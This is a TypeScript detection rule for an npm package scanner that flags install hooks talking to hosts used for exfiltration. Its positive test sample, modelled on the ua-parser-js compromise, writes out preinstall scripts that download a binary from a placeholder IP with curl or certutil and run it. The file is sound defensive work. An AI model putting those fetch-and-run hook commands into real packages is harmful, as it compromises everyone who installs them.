import type { Rule } from '../rule';

export const hookDropHost: Rule = {
  code: 'hook-drop-host',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'exfiltration',
  capabilities: ['network'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary:
    'An install hook names a host that exfiltration uses (webhook collectors, paste sites, bare IP addresses) and talks to the network.',
  message: 'talks to a host that exfiltration uses',
  pattern: { where: 'hooks', any: ['drop-host'], near: ['network'] },
  samples: {
    hits: [
      {
        what: 'a binary by platform (ua-parser-js)',
        format: 'tarball',
        manifest: { scripts: { preinstall: 'node preinstall.js' } },
        files: {
          'preinstall.js':
            'const { exec } = require("child_process"); if (process.platform === "win32") exec("cmd.exe /c preinstall.bat"); else exec("/bin/bash preinstall.sh")',
          'preinstall.sh':
            'curl http://203.0.113.5/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls &',
          'preinstall.bat': 'certutil -urlcache -f http://203.0.113.5/x.exe x.exe\nx.exe',
        },
        verdict: 'malicious',
        speaks: ['hook-remote-code'],
      },
    ],
    ignores: [
      {
        what: 'a server of its own on this machine',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: { 'a.js': 'require("https").get("http://127.0.0.1:9000/ready")' },
        why: 'An address of the machine itself is no place to send things to.',
        speaks: ['hook-network'],
      },
    ],
  },
};
